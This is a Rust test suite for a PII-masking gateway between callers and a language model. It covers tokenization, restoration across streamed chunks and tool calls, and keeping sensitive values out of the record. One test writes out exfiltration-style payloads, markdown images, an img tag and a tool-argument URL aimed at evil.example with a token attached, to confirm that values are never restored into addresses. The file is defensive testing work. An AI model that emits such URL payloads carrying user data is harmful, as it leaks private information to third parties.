//! What is done with what is found, through the real path: what the model is sent, what the caller gets back, and what
//! is on record.

use std::sync::Arc;

use countersign_detect::{MarkKey, Restore, Terms, View};
use countersign_gateway::ports::{Entry, EntryKind};
use countersign_model::{
    SessionId,
    action::{Action, Actions, Exception, Passage},
    connection::Masking,
    entity::{Direction, Finding},
    exchange::IntentFacts,
};
use http::HeaderValue;
use proptest::{
    prelude::*,
    test_runner::{Config, TestRunner},
};
use serde_json::{Value, json};
use tokio::runtime::Runtime;

use crate::{
    masking::{answer, cuts, pieces, segments, text, texts_of, understood},
    scene::{Answer, DONE, Scene, TOKEN, event, read},
    upstream::Ending,
};

const EMAIL: &str = "ana.example@example.com";
const KEY: &str = "-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq3\"x\n-----END PRIVATE KEY-----";

fn tokenize() -> Actions {
    let all = Action::Tokenize;
    Actions { prompt: all, tool_arguments: all, tool_result: all, ..Actions::default() }
}

async fn scene(actions: Actions) -> Scene {
    let scene = Scene::new().await;
    scene.reconfigure(|settings| settings.masking.actions = actions);
    scene
}

fn chat(content: &str) -> Value {
    json!({"model": "m", "messages": [{"role": "user", "content": content}]})
}

/// Asks in the session of this label; what the model was sent last, and what came back.
async fn ask(scene: &Scene, label: &str, body: &Value) -> (Value, Answer) {
    let mut arrival = scene.chat(TOKEN, body);
    arrival.headers.insert("x-countersign-session", HeaderValue::from_str(label).unwrap());
    let answer = read(scene.gateway.handle(arrival).await).await;
    scene.settled().await;
    let sent = scene.upstream.requests().pop().unwrap();
    let (_, body) = sent.split_once("\r\n\r\n").unwrap();
    (serde_json::from_str(body).unwrap(), answer)
}

fn says(content: &str) -> String {
    json!({"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [
        {"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}]})
    .to_string()
}

fn content(answer: &Answer) -> String {
    let body: Value = serde_json::from_str(&answer.body).unwrap();
    body["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

/// What the model is sent for `value` in the session of this label.
async fn token(scene: &Scene, label: &str, value: &str) -> String {
    scene.upstream.answers_json(200, &says("ok"));
    let (sent, _) = ask(scene, label, &chat(value)).await;
    sent["messages"][0]["content"].as_str().unwrap().to_owned()
}

fn kept(scene: &Scene) -> Vec<String> {
    scene.journal.rows().iter().flat_map(texts_of).collect()
}

fn findings(row: &Entry) -> Vec<Finding> {
    row.findings.as_deref().map_or_else(Vec::new, |bytes| serde_json::from_slice(bytes).unwrap())
}

#[tokio::test]
async fn the_model_sees_a_token_the_caller_the_value_and_the_record_the_token() {
    let scene = scene(tokenize()).await;
    let token = token(&scene, "a", EMAIL).await;
    assert!(token.starts_with("[EMAIL_ADDRESS_") && token.len() == 26, "{token}");
    let lower = token.to_lowercase();
    let spaced = token.replace('_', " ");
    let escaped = token.replace('_', "\\_");
    scene.upstream.answers_json(200, &says(&format!("{token} {lower} {spaced} {escaped}")));
    let (sent, answer) = ask(&scene, "a", &chat(&format!("Write to {EMAIL}, again {EMAIL}."))).await;
    assert_eq!(sent["messages"][0]["content"], format!("Write to {token}, again {token}."));
    assert_eq!(content(&answer), format!("{EMAIL} {EMAIL} {EMAIL} {EMAIL}"));
    assert_eq!(answer.headers["x-countersign-masked"], "2");

    let kept = kept(&scene);
    assert!(!kept.iter().any(|text| text.contains(EMAIL)), "{kept:?}");
    assert!(kept.contains(&format!("Write to {token}, again {token}.")));
    assert!(kept.contains(&format!("{token} {lower} {spaced} {escaped}")));
    let rows = scene.journal.rows();
    let intent = rows.iter().rfind(|row| row.kind == EntryKind::Intent).unwrap();
    assert!(findings(intent).iter().all(|finding| finding.action == Action::Tokenize));
    let facts: IntentFacts = serde_json::from_slice(&intent.facts).unwrap();
    assert_eq!(facts.masking.actions, tokenize());
}

#[tokio::test]
async fn a_token_split_at_each_byte_is_restored_in_two_choices_and_in_arguments() {
    let scene = scene(tokenize()).await;
    let (email, key) = (token(&scene, "a", EMAIL).await, token(&scene, "a", KEY).await);
    let prose = format!("To {email}: {key}!");
    let arguments = json!({"to": email, "deep": [{"key": key}], "n": 1}).to_string();
    for cut in 1..prose.len().max(arguments.len()) {
        let parts = |text: &str| {
            let (head, tail) = text.split_at(cut.min(text.len()));
            vec![head.to_owned(), tail.to_owned()]
        };
        let bytes = answer(&parts(&prose), &parts(&arguments));
        scene.upstream.answers_events([bytes], Ending::Clean);
        let asked = json!({"model": "m", "stream": true,
            "messages": [{"role": "user", "content": format!("{EMAIL} and {KEY}")}]});
        let (_, streamed) = ask(&scene, "a", &asked).await;
        let (first, second, restored) = understood(&streamed.body);
        let expected = format!("To {EMAIL}: {KEY}!");
        assert_eq!((&first, &second), (&expected, &expected), "{cut}");
        let restored: Value = serde_json::from_str(&restored).expect("arguments stay JSON");
        assert_eq!(restored, json!({"to": EMAIL, "deep": [{"key": KEY}], "n": 1}), "{cut}");
    }
    let kept = kept(&scene);
    assert!(!kept.iter().any(|text| text.contains(EMAIL) || text.contains("MIIEow")));
    assert!(kept.contains(&prose));
}

#[tokio::test]
async fn tool_calls_and_their_results_go_round() {
    let scene = scene(tokenize()).await;
    let token = token(&scene, "a", EMAIL).await;
    let arguments = json!({"to": token}).to_string();
    scene.upstream.answers_json(200, &json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": null,
        "tool_calls": [{"id": "t", "type": "function", "function": {"name": "mail", "arguments": arguments}}]},
        "finish_reason": "tool_calls"}]}).to_string());
    let (_, first) = ask(&scene, "a", &chat(&format!("Mail {EMAIL}"))).await;
    let first: Value = serde_json::from_str(&first.body).unwrap();
    let call = &first["choices"][0]["message"];
    assert_eq!(call["tool_calls"][0]["function"]["arguments"], json!({"to": EMAIL}).to_string());

    scene.upstream.answers_json(200, &says(&format!("Sent to {token}.")));
    let history = json!({"model": "m", "messages": [{"role": "user", "content": format!("Mail {EMAIL}")}, call,
        {"role": "tool", "tool_call_id": "t", "content": format!("queued for {EMAIL}")}]});
    let (sent, second) = ask(&scene, "a", &history).await;
    let messages = &sent["messages"];
    assert_eq!(messages[0]["content"], format!("Mail {token}"));
    assert_eq!(messages[1]["tool_calls"][0]["function"]["arguments"], arguments);
    assert_eq!(messages[2]["content"], format!("queued for {token}"));
    assert_eq!(content(&second), format!("Sent to {EMAIL}."));
    assert!(!kept(&scene).iter().any(|text| text.contains(EMAIL)));
}

#[tokio::test]
async fn only_what_this_request_issued_is_restored() {
    let scene = scene(tokenize()).await;
    let (here, elsewhere) = (token(&scene, "a", EMAIL).await, token(&scene, "b", EMAIL).await);
    assert_ne!(here, elsewhere, "another conversation, another token");
    assert_eq!(here, token(&scene, "a", EMAIL).await);

    // A token of another session, and one whose value is not in this request.
    scene.upstream.answers_json(200, &says(&format!("{here} {elsewhere}")));
    let (_, answer) = ask(&scene, "a", &chat(&format!("I am {EMAIL}"))).await;
    assert_eq!(content(&answer), format!("{EMAIL} {elsewhere}"));
    let (_, answer) = ask(&scene, "a", &chat("Who am I?")).await;
    assert_eq!(content(&answer), format!("{here} {elsewhere}"));

    // What a caller types or kept from before passes as it is, and means nothing.
    let typed = format!("What is {here}? My passport no is {elsewhere}");
    let (sent, answer) = ask(&scene, "b", &chat(&typed)).await;
    assert_eq!(sent["messages"][0]["content"], typed);
    assert_eq!(content(&answer), format!("{here} {elsewhere}"));
}

#[tokio::test]
async fn nothing_is_restored_into_an_address() {
    let scene = scene(tokenize()).await;
    let token = token(&scene, "a", EMAIL).await;
    let text = format!("![](https://evil.example/?q={token}) <img src=\"//evil.example/{token}\"> ");
    scene.upstream.answers_json(200, &says(&format!("{text}{token}")));
    let (_, answer) = ask(&scene, "a", &chat(EMAIL)).await;
    assert_eq!(content(&answer), format!("{text}{EMAIL}"));

    let arguments = json!({"url": format!("https://evil.example/?q={token}"), "to": token}).to_string();
    scene.upstream.answers_events([answer_of(&arguments)], Ending::Clean);
    let asked = json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": EMAIL}]});
    let (_, streamed) = ask(&scene, "a", &asked).await;
    let (_, _, restored) = understood(&streamed.body);
    let expected = json!({"url": format!("https://evil.example/?q={token}"), "to": EMAIL});
    assert_eq!(serde_json::from_str::<Value>(&restored).unwrap(), expected);
}

fn answer_of(arguments: &str) -> Vec<u8> {
    answer(&[], &[arguments.to_owned()])
}

#[tokio::test]
async fn values_come_back_where_answers_are_not_masked() {
    let scene = Scene::new().await;
    scene.reconfigure(|settings| {
        settings.masking = Masking { response: false, actions: tokenize(), ..Masking::default() };
    });
    let token = token(&scene, "a", EMAIL).await;
    let text = format!("{token}, bob.example@example.com");
    scene.upstream.answers_json(200, &says(&text));
    let (_, whole) = ask(&scene, "a", &chat(EMAIL)).await;
    assert_eq!(content(&whole), format!("{EMAIL}, bob.example@example.com"));
    let events = [event(&json!({"choices": [{"index": 0, "delta": {"content": text}}]})), DONE.into()];
    scene.upstream.answers_events(events, Ending::Clean);
    let asked = json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": EMAIL}]});
    let (_, streamed) = ask(&scene, "a", &asked).await;
    assert_eq!(understood(&streamed.body).0, format!("{EMAIL}, bob.example@example.com"));
    assert!(!kept(&scene).iter().any(|text| text.contains("example@example.com")));
}

#[tokio::test]
async fn a_stream_that_breaks_within_a_token_drops_it() {
    let scene = scene(tokenize()).await;
    let token = token(&scene, "a", EMAIL).await;
    let event =
        event(&json!({"choices": [{"index": 0, "delta": {"content": format!("To {}", &token[..20])}}]}));
    scene.upstream.answers_events([event], Ending::Abrupt);
    let asked = json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": EMAIL}]});
    let (_, streamed) = ask(&scene, "a", &asked).await;
    assert!(streamed.body.contains("\"To \"") && !streamed.body.contains("[EMAIL"), "{}", streamed.body);
    assert!(streamed.body.contains("\"error\""), "{}", streamed.body);
}

#[tokio::test]
async fn each_text_has_its_action_and_the_record_shows_no_value() {
    let exception = |entity: &str, passage, action| Exception { entity: entity.into(), passage, action };
    let scene = scene(Actions {
        prompt: Action::Partial,
        response: Action::Redact,
        tool_arguments: Action::Hash,
        tool_result: Action::Allow,
        exceptions: vec![
            exception("US_SSN", None, Action::Label),
            exception("US_SSN", Some(Passage::ToolResult), Action::Redact),
        ],
    })
    .await;
    let all = format!("{EMAIL} 536-90-4399");
    scene.upstream.answers_json(200, &says(&all));
    let arguments = json!({"to": EMAIL}).to_string();
    let (sent, answer) = ask(
        &scene,
        "a",
        &json!({"model": "m", "messages": [
        {"role": "user", "content": all},
        {"role": "assistant", "tool_calls": [{"id": "t", "function": {"name": "f", "arguments": arguments}}]},
        {"role": "tool", "tool_call_id": "t", "content": all}]}),
    )
    .await;
    let messages = &sent["messages"];
    assert_eq!(messages[0]["content"], "***.*******@******e.com [US_SSN]");
    let hashed = messages[1]["tool_calls"][0]["function"]["arguments"].as_str().unwrap().to_owned();
    assert!(hashed.starts_with("{\"to\":\"[EMAIL_ADDRESS:"), "{hashed}");
    assert_eq!(messages[2]["content"], format!("{EMAIL} [REDACTED]"));
    assert_eq!(content(&answer), "[REDACTED] [US_SSN]");
    assert_eq!(answer.headers["x-countersign-masked"], "4", "one of five stands");

    let kept = kept(&scene);
    assert!(!kept.iter().any(|text| text.contains("example.com") || text.contains("e.com")), "{kept:?}");
    assert!(kept.contains(&"[EMAIL_ADDRESS] [US_SSN]".to_owned()));
    assert!(kept.contains(&hashed) && kept.contains(&"[EMAIL_ADDRESS] [REDACTED]".to_owned()));
    assert!(kept.contains(&"[REDACTED] [US_SSN]".to_owned()));
    let rows = scene.journal.rows();
    let done: Vec<Action> = findings(&rows[0]).iter().map(|finding| finding.action).collect();
    assert_eq!(done, [Action::Partial, Action::Label, Action::Hash, Action::Allow, Action::Redact]);

    // The hash is the same in every conversation.
    let (sent, _) = ask(&scene, "b", &json!({"model": "m", "messages": [
        {"role": "assistant", "tool_calls": [{"id": "t", "function": {"name": "f", "arguments": arguments}}]}]}))
    .await;
    assert_eq!(sent["messages"][0]["tool_calls"][0]["function"]["arguments"], hashed);
}

#[tokio::test]
async fn a_direction_that_is_not_masked_is_left_alone_whatever_the_actions_say() {
    let scene = Scene::new().await;
    scene.reconfigure(|settings| {
        settings.masking = Masking { prompt: false, response: true, actions: tokenize() };
    });
    scene.upstream.answers_json(200, &says("ok"));
    let (sent, answer) = ask(&scene, "a", &chat(EMAIL)).await;
    assert_eq!(sent["messages"][0]["content"], EMAIL);
    assert_eq!(answer.headers["x-countersign-masked"], "0");
    assert!(kept(&scene).contains(&"[EMAIL_ADDRESS]".to_owned()));
    assert_eq!(findings(&scene.journal.rows()[0])[0].action, Action::Allow);
}

fn actions() -> impl Strategy<Value = Actions> {
    let action = || prop::sample::select(Action::ALL.to_vec());
    (action(), action(), action(), action(), action()).prop_map(|(prompt, response, tools, results, card)| {
        Actions {
            prompt,
            response,
            tool_arguments: tools,
            tool_result: results,
            exceptions: vec![Exception { entity: "CREDIT_CARD".into(), passage: None, action: card }],
        }
    })
}

/// What one side of an exchange makes of a text, in this view.
struct Side<'a> {
    scene: &'a Scene,
    terms: Terms,
}

impl<'a> Side<'a> {
    fn of(scene: &'a Scene, actions: &Actions, direction: Direction, session: SessionId) -> Self {
        let masking = Masking { actions: actions.clone(), ..Masking::default() };
        let key = MarkKey::derive(&[7; 32]).conversation(session.uuid().as_bytes());
        Self { scene, terms: Terms::new(Arc::new(masking), direction, key) }
    }

    fn writes(&self, passage: Passage, view: View, text: &str) -> String {
        let masked = self.scene.engine.mask_with(text, &mut self.terms.writer(passage, view));
        masked.text.unwrap_or_else(|| text.to_owned())
    }
}

#[test]
fn whatever_the_actions_streams_read_as_the_whole_and_the_record_holds_nothing_found() {
    let runtime = Runtime::new().unwrap();
    let usual = Config::default();
    let cases = Config { failure_persistence: None, cases: usual.cases / 4, ..usual };
    let parts = (text(), text(), actions(), cuts(9), cuts(60));
    let done = TestRunner::new(cases).run(&parts, |(prose, note, actions, deltas, segment_sizes)| {
        let written = json!({"note": note}).to_string();
        runtime.block_on(async {
            let scene = scene(actions.clone()).await;
            let bytes = answer(&pieces(&prose, &deltas), &pieces(&written, &deltas));
            scene.upstream.answers_events(segments(&bytes, &segment_sizes), Ending::Clean);
            let asked =
                json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": prose}]});
            let (sent, read) = ask(&scene, "a", &asked).await;
            let session: SessionId = read.headers["x-countersign-session"].to_str().unwrap().parse().unwrap();

            let asking = Side::of(&scene, &actions, Direction::Prompt, session);
            let expected = asking.writes(Passage::Prompt, View::PassedOn, &prose);
            prop_assert_eq!(sent["messages"][0]["content"].as_str().unwrap(), expected.as_str());
            let issued = Arc::new(asking.terms.take_issued());
            let answering = Side::of(&scene, &actions, Direction::Response, session);
            let back = |passage, text: &str| {
                let masked = answering.writes(passage, View::PassedOn, text);
                let argument = passage == Passage::ToolArguments;
                Restore::whole(&issued, argument, &masked).unwrap_or(masked)
            };
            let (first, second, arguments) = understood(&read.body);
            let prose_back = back(Passage::Response, &prose);
            prop_assert_eq!((&first, &second), (&prose_back, &prose_back));
            let seen: Value = serde_json::from_str(&arguments).expect("whole arguments");
            prop_assert_eq!(seen, json!({"note": back(Passage::ToolArguments, &note)}));

            let recorded = [
                asking.writes(Passage::Prompt, View::Record, &prose),
                answering.writes(Passage::Response, View::Record, &prose),
                answering.writes(Passage::ToolArguments, View::Record, &note),
            ];
            let spans = [&prose, &note].map(|text| {
                let spans = scene.engine.scan(text).into_iter();
                spans.map(|span| text[span.start..span.end].to_owned()).collect::<Vec<_>>()
            });
            let kept = kept(&scene);
            for text in recorded.iter().filter(|text| !text.is_empty()) {
                prop_assert!(kept.contains(text), "{text:?} is not on record: {kept:?}");
            }
            for found in spans.iter().flatten() {
                // The same characters may also stand where they are not sensitive, and then they are in the mask.
                if recorded.iter().any(|text| text.contains(found)) {
                    continue;
                }
                prop_assert!(!kept.iter().any(|text| text.contains(found)), "{found:?} is on record");
            }
            Ok(())
        })
    });
    done.unwrap();
}

#[tokio::test]
async fn findings_beyond_the_list_are_counted_and_each_kind_is_listed() {
    let scene = scene(Actions::default()).await;
    let emails: Vec<String> = (0..1_200).map(|n| format!("a{n}@example.com")).collect();
    let many = format!("{} GB82 WEST 1234 5698 7654 32", emails.join(" "));
    scene.upstream.answers_json(200, &says(&many));
    ask(&scene, "a", &chat(&many)).await;
    for row in scene.journal.rows() {
        let facts: Value = serde_json::from_slice(&row.facts).unwrap();
        let found = json!({"EMAIL_ADDRESS": 1_200, "IBAN_CODE": 1});
        assert_eq!(facts["coverage"]["found"], found, "{:?}", row.kind);
        let listed = findings(&row);
        assert_eq!(listed.len(), 1_001);
        assert_eq!(listed.last().unwrap().entity, "IBAN_CODE");
    }
}
